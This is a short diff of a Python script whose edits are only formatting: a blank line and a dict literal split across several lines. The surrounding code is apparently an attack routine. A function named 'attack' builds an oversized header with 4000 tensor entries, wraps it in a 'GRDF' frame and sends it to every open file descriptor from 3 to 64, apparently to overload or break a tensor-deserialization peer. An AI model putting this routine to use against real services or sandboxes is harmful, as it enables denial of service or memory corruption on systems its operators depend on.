@@ -12,6 +12,7 @@ import stat
 import struct
 import sys
 
+
 def channels() -> list[int]:
     found = []
     for number in range(3, 65):
@@ -40,7 +41,14 @@ def attack(targets: dict) -> str:
     table = {f"t{index}": {"dtype": "F32", "shape": shape, "data_offsets": [0, 0]} for index in range(4000)}
     inner = json.dumps(table).encode()
     blob = struct.pack("<Q", len(inner)) + inner
-    node = {"$tensor": "t0", "as": "tensor", "dtype": "float32", "shape": shape, "device": "cpu", "requires_grad": False}
+    node = {
+        "$tensor": "t0",
+        "as": "tensor",
+        "dtype": "float32",
+        "shape": shape,
+        "device": "cpu",
+        "requires_grad": False,
+    }
     header = json.dumps({"n": request_number(), "ok": node}).encode()
     for number in channels():
         left = memoryview(b"GRDF" + struct.pack("<IIQ", 1, len(header), len(blob)) + header + blob)
